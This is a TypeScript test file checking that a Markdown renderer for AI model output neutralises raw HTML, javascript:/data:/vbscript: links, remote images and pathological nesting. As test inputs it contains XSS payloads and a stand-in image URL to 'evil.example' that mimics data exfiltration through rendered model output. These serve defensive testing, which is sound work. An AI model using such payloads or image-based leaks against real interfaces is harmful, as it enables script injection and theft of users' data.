import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import Markdown from './markdown.tsx';
import { linkTarget } from './safety.ts';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} onFile={() => {}} />);

describe('markdown of a model', () => {
  test('raw HTML stays text', () => {
    const html = render(
      '<script>alert(1)</script> <img src=x onerror=alert(1)> <b onclick="x">hi</b>\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(html).not.toMatch(/<(?:script|img|iframe|b)\b/);
    expect(html).toContain('&lt;script&gt;');
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'blob:http://x/1',
    '//evil.example',
    '/api/threads',
    '#x',
  ])('a link to %s leads nowhere', (address) => {
    const html = render(`[click](<${address}>)`);
    expect(html).not.toContain('href');
    expect(html).toContain('click');
  });

  test('web links open apart and tell nobody where they come from', () => {
    expect(render('[a](https://example.org/x)')).toContain(
      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    );
    expect(render('see https://example.org')).toContain('rel="noopener noreferrer nofollow"');
  });

  test('images from elsewhere are not loaded', () => {
    const html = render('![secret](https://evil.example/?q=stolen)');
    expect(html).not.toContain('<img');
    expect(html).toContain('>secret</a>');
  });

  test('files of the thread are buttons', () => {
    expect(render('[report](/mnt/user-data/outputs/report.md)')).toContain(
      '<button type="button" class="link">report</button>',
    );
    expect(linkTarget('sandbox:/mnt/user-data/outputs/a.md')).toEqual({
      kind: 'file',
      path: '/mnt/user-data/outputs/a.md',
    });
  });

  test('tables, lists and code come out', () => {
    const html = render('| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done\n\n```js\nlet x = "<i>";\n```');
    expect(html).toContain('<table>');
    expect(html).toContain('type="checkbox"');
    expect(html).toContain('&lt;i&gt;');
  });

  test('absurd nesting does not bring it down', () => {
    for (const text of [
      `${'> '.repeat(5_000)}x`,
      '['.repeat(50_000),
      `${'- '.repeat(5_000)}x`,
      `${'*'.repeat(20_000)}x`,
    ]) {
      const begun = performance.now();
      expect(render(text).length).toBeGreaterThan(0);
      expect(performance.now() - begun).toBeLessThan(5_000);
    }
  });
});
